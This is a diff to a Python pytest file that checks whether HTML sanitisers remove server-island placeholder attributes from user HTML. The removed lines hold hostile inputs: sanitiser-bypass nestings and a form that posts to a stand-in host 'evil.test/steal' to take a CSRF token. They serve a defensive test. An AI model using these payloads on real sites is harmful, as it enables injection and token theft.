@@ -1,5 +1,8 @@
 """What others make of placeholders: sanitisers take them out of users' HTML, minifiers leave a shell's as they are."""
 
+import json
+from pathlib import Path
+
 import bleach
 import eyot
 import minify
@@ -8,35 +11,15 @@ import nh3
 import pytest
 from lxml_html_clean import clean_html
 
-ISLAND = 'island="CsrfField" island-src="/_server-islands/CsrfField/TOKEN"'
-HOSTS = (
-    "server-island",
-    "div",
-    "p",
-    "b",
-    "a",
-    "li",
-    "td",
-    "form",
-    "select",
-    "option",
-    "textarea",
-    "template",
-    "svg",
-    "math",
-    "x-y",
-)
-USERS = [
-    *(f"<{host} {ISLAND} island-redirect=follow>read</{host}>" for host in HOSTS),
-    f'<form action="https://evil.test/steal"><div {ISLAND}></div><button>Read more</button></form>',
-    f"<svg></p><style><a title='</style><div {ISLAND}>'>",
-    f"<math><annotation-xml encoding='text/html'><div {ISLAND}>x</div></annotation-xml></math>",
-    "<DIV\nISLAND=CsrfField\tisland-src=/_server-islands/CsrfField/TOKEN>x</DIV>",
-    f"<noscript><p title='</noscript><div {ISLAND}>'>",
-]
+# What an attacker may write: the same as JavaScript's sanitisers are given.
+PAYLOADS: list[str] = json.loads((Path(__file__).parents[3] / "core/loader/test/payloads.json").read_text("utf-8"))
 
 
-@pytest.mark.parametrize("html", USERS)
+def test_a_hundred_ways_at_least_are_tried() -> None:
+    assert len(set(PAYLOADS)) >= 100
+
+
+@pytest.mark.parametrize("html", PAYLOADS)
 def test_no_sanitiser_leaves_a_placeholder_with_its_defaults(html: str) -> None:
     for clean in (nh3.clean(html), bleach.clean(html), clean_html(f"<div>{html}</div>")):
         shell = f"<!doctype html><html><head><title>t</title></head><body>{clean}</body></html>".encode()
